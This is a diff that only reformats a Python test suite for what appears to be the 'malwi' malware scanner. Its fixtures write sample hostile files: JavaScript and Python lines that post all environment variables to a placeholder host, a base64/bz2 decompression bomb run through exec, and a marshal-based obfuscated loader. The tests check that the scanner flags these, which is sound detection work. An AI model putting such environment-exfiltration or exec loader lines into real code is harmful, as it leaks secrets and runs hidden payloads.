@@ -10,7 +10,6 @@ from pathlib import Path
 from typing import Any
 
 import jsonschema
-
 import malwi
 
 from .conftest import ROOT, run_malwi
@@ -113,13 +112,19 @@ def test_featurizer_switches_add_flow_and_protector_tokens() -> None:
 
 def test_file_reports_carry_flows_and_protection(tmp_path: Path) -> None:
     (tmp_path / "index.js").write_text(OBFUSCATED_JS)
-    (tmp_path / "send.js").write_text("fetch('https://c.example/e', {method: 'POST', body: JSON.stringify(process.env)});\n")
+    (tmp_path / "send.js").write_text(
+        "fetch('https://c.example/e', {method: 'POST', body: JSON.stringify(process.env)});\n"
+    )
     reports = {Path(r.path).name: r for r in malwi.compile_files(malwi.discover([str(tmp_path)]).files)}
     protection = reports["index.js"].protection
     assert protection is not None and protection["is_protected"] and protection["evidence"]
     assert reports["send.js"].protection is None
     (flow,) = [f for o in reports["send.js"].objects for f in o.flows]
-    assert (flow["source"], flow["sink"], flow["sink_detail"]) == ("environment", "network", "https://c.example/e")
+    assert (flow["source"], flow["sink"], flow["sink_detail"]) == (
+        "environment",
+        "network",
+        "https://c.example/e",
+    )
 
 
 def test_a_decoding_bomb_stops_with_a_warning_and_marshal_is_reported_not_loaded(tmp_path: Path) -> None:
@@ -128,10 +133,14 @@ def test_a_decoding_bomb_stops_with_a_warning_and_marshal_is_reported_not_loaded
     import zlib
 
     bomb = base64.b64encode(bz2.compress(b"A" * (16 << 20))).decode()
-    (tmp_path / "bomb.py").write_text(f"import base64, bz2\nexec(bz2.decompress(base64.b64decode('{bomb}')))\n")
+    (tmp_path / "bomb.py").write_text(
+        f"import base64, bz2\nexec(bz2.decompress(base64.b64decode('{bomb}')))\n"
+    )
     code = marshal.dumps(compile("print('defanged')", "<x>", "exec"))
     blob = base64.b64encode(zlib.compress(code)).decode()
-    (tmp_path / "loader.py").write_text(f"import marshal, zlib, base64\nexec(marshal.loads(zlib.decompress(base64.b64decode('{blob}'))))\n")
+    (tmp_path / "loader.py").write_text(
+        f"import marshal, zlib, base64\nexec(marshal.loads(zlib.decompress(base64.b64decode('{blob}'))))\n"
+    )
     result = run_malwi("scan", str(tmp_path), "--format", "json")
     document = json.loads(result.stdout)
     jsonschema.validate(document, SCHEMA)
@@ -147,7 +156,9 @@ def test_sarif_has_a_result_per_flow_and_for_protected_code(tmp_path: Path) -> N
     (tmp_path / "index.js").write_text(OBFUSCATED_JS)
     (tmp_path / "client.py").write_text("import os, requests\n\n\nrequests.post(u, data=os.environ)\n")
     log = json.loads(run_malwi("scan", str(tmp_path), "--format", "sarif").stdout)
-    results = {r["ruleId"]: r for r in log["runs"][0]["results"] if r["ruleId"] in ("DATA_FLOW", "PROTECTED_CODE")}
+    results = {
+        r["ruleId"]: r for r in log["runs"][0]["results"] if r["ruleId"] in ("DATA_FLOW", "PROTECTED_CODE")
+    }
     flow = results["DATA_FLOW"]
     assert flow["properties"]["source"] == "environment" and flow["properties"]["sink"] == "network"
     assert flow["locations"][0]["physicalLocation"]["region"]["startLine"] == 4
